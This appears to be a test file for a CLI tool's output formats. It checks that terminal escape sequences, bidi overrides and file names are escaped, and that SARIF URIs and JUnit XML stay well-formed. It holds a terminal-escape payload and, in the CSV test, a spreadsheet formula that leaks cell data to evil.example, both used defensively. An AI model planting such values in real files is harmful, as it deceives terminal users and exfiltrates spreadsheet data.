// What the CLI's output formats write when documents and file names hold what a terminal, an XML
// parser, a URI resolver or a spreadsheet would read as something else.
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Finding } from '../../server/src/engine';
import { formatFindings, type ReportedFinding } from '../../server/src/cli/formats';
import { cli, workspace } from '../support/cli';

const quiet = 'rules:\n  clause-uncovered: off\n';
// A clause number the catalog lacks, so unknown-clause quotes it back in its message.
const quoting = (value: string) => `kind: threat-model\nclauses: [${JSON.stringify(value)}]\n`;
// Clear screen, set the window title, ring the bell, and reverse the text after it (U+202E).
const HOSTILE = '\u001b[2J\u001b]0;pwned\u0007\u202eevil\u0000\u0085';

describe('clause-guide output: SARIF locations', () => {
  const names = ['with space.yaml', 'hash#1.yaml', 'per%41cent.yaml', 'café/ümlaut.yaml', 'q?.yaml', 'colon:x.yaml', 'plain.yaml'];

  it('percent-encodes artifact URIs relative to %SRCROOT%, which resolve back to the very file', () => {
    const files: Record<string, string> = { '.clause-guide.yaml': quiet };
    for (const name of names) files[`security/${name}`] = quoting('9.9');
    const root = workspace(files);
    const sarif = JSON.parse(cli(['check', '--format', 'sarif'], root).stdout);
    const [run] = sarif.runs;
    const base = run.originalUriBaseIds['%SRCROOT%'].uri;
    assert.equal(fileURLToPath(base), root + path.sep);
    const resolved = run.results.map((result: { locations: { physicalLocation: { artifactLocation: { uri: string; uriBaseId: string } } }[] }) => {
      const location = result.locations[0].physicalLocation.artifactLocation;
      assert.equal(location.uriBaseId, '%SRCROOT%');
      assert.doesNotMatch(location.uri, /[ #?%]*[^\x21-\x7e]/, 'only printable ASCII');
      return path.relative(root, fileURLToPath(new URL(location.uri, base))).split(path.sep).join('/');
    });
    assert.deepEqual(resolved.sort(), names.map((name) => `security/${name}`).sort());
  });

  it('a file outside the working folder resolves too', () => {
    const outside = workspace({ 'x y#.yaml': quoting('9.9') });
    const here = workspace({ '.clause-guide.yaml': quiet });
    const [run] = JSON.parse(cli(['check', '--format', 'sarif', path.join(outside, 'x y#.yaml')], here).stdout).runs;
    const { uri } = run.results[0].locations[0].physicalLocation.artifactLocation;
    assert.equal(fileURLToPath(new URL(uri, run.originalUriBaseIds['%SRCROOT%'].uri)), path.join(outside, 'x y#.yaml'));
  });
});

describe('clause-guide output: JUnit XML', () => {
  it('is well-formed XML 1.0 when a message holds control characters, and shows them visibly', () => {
    const root = workspace({ '.clause-guide.yaml': quiet, 'tm <&>".yaml': quoting(`9.9${HOSTILE}\ud800`) });
    const { stdout } = cli(['check', '--format', 'junit'], root);
    assertWellFormedXml(stdout);
    assert.match(stdout, /\\u001b\[2J\\u001b\]0;pwned\\u0007/, 'escapes are written as visible text');
    assert.match(stdout, /classname="tm &lt;&amp;&gt;&quot;\.yaml"/);
  });

  it('keeps tabs and line breaks inside an attribute as character references', () => {
    const xml = formatFindings('junit', [reported('a.yaml', 'line one\nline\ttwo\r')], { toolVersion: '0' });
    assert.match(xml, /message="line one&#10;line&#9;two&#13;"/);
  });

  it('takes about as long as JSON for many findings (40,000 took a minute against JSON\'s 2.7 s)', function () {
    this.timeout(60000);
    const findings = Array.from({ length: 20000 }, (_, i) => reported('security/threat-model.yaml', `finding ${i}`, i));
    const time = (format: 'json' | 'junit') => bestOf(5, () => formatFindings(format, findings, { toolVersion: '0' }));
    time('junit'); // warm up both
    const json = time('json');
    const junit = time('junit');
    // Both are linear: JUnit writes less per finding than indented JSON. Quadratic was 50x and more.
    assert.ok(junit < 8 * json, `JUnit took ${junit.toFixed(0)} ms, JSON ${json.toFixed(0)} ms`);
  });
});

function reported(file: string, message: string, line = 0): ReportedFinding {
  const finding: Finding = { uri: 'file:///x', rule: 'unknown-clause', clause: null, severity: 'error', range: { start: { line, character: 0 }, end: { line, character: 1 } }, message };
  return { file, finding };
}

function bestOf(runs: number, fn: () => unknown): number {
  let best = Infinity;
  for (let i = 0; i < runs; i++) {
    const start = performance.now();
    fn();
    best = Math.min(best, performance.now() - start);
  }
  return Math.max(best, 1);
}

/** Characters XML 1.0 allows anywhere (§2.2), and the checks a parser makes that matter here. */
function assertWellFormedXml(xml: string): void {
  for (const char of xml) {
    const code = char.codePointAt(0)!;
    const allowed = code === 0x9 || code === 0xa || code === 0xd || (code >= 0x20 && code <= 0xd7ff) || (code >= 0xe000 && code <= 0xfffd) || code >= 0x10000;
    assert.ok(allowed, `U+${code.toString(16).padStart(4, '0')} is not allowed in XML 1.0`);
  }
  // Every attribute value is quoted and holds no raw < or &.
  const tags = xml.match(/<[^>]*>/g) ?? [];
  for (const tag of tags) {
    const body = tag.replace(/"[^"]*"/g, (value) => {
      assert.doesNotMatch(value, /<|&(?!(?:amp|lt|gt|quot|apos|#\d+|#x[0-9a-f]+);)/i, `attribute ${value}`);
      return '';
    });
    assert.doesNotMatch(body, /"/, `unbalanced quotes in ${tag}`);
  }
  assert.doesNotMatch(xml.replace(/<[^>]*>/g, ''), /<|&(?!(?:amp|lt|gt|quot|apos|#\d+|#x[0-9a-f]+);)/i);
}

describe('clause-guide output: text a terminal would run', () => {
  it('check writes control and bidi characters from documents and file names as visible escapes', () => {
    const root = workspace({ '.clause-guide.yaml': quiet, 'tm\u001b[31m.yaml': quoting(`9.9${HOSTILE}\u2066\n`) });
    const { stdout, stderr } = cli(['check'], root);
    assert.doesNotMatch(stdout + stderr, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/, 'no raw control characters');
    assert.match(stdout, /^tm\\u001b\[31m\.yaml:2:\d+: error unknown-clause: .*9\.9\\u001b\[2J\\u001b\]0;pwned\\u0007\\u202eevil\\u0000\\u0085\\u2066\\n/m);
    assert.equal(stdout.trimEnd().split('\n').length, 2, 'one line per finding, then the summary');
  });

  it('the file name of an unread file is escaped on stderr', () => {
    const root = workspace({ '.clause-guide.yaml': quiet });
    fs.writeFileSync(path.join(root, 'x\u001b]0;t\u0007.yaml'), Buffer.from([0, 1, 2]));
    const { stderr } = cli(['check'], root);
    assert.match(stderr, /cannot read x\\u001b\]0;t\\u0007\.yaml: binary/);
    assert.doesNotMatch(stderr, /[\u0000-\u0009\u000b-\u001f]/);
  });
});

describe('clause-guide output: CSV a spreadsheet would run', () => {
  it('matrix --format csv writes =HYPERLINK(…) from a document as text, not a formula', () => {
    const root = workspace({
      '.clause-guide.yaml': quiet,
      'req.yaml': 'kind: security-requirements\nrequirements:\n  - id: SR-1\n    text: \'=HYPERLINK("http://evil.example/?leak="&A1,"Click")\'\n    phase: operation\n',
    });
    const { stdout } = cli(['matrix', '--format', 'csv'], root);
    const row = stdout.split('\r\n')[1];
    assert.equal(row, `SR-1,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",operation,,,,,,no result`);
  });
});
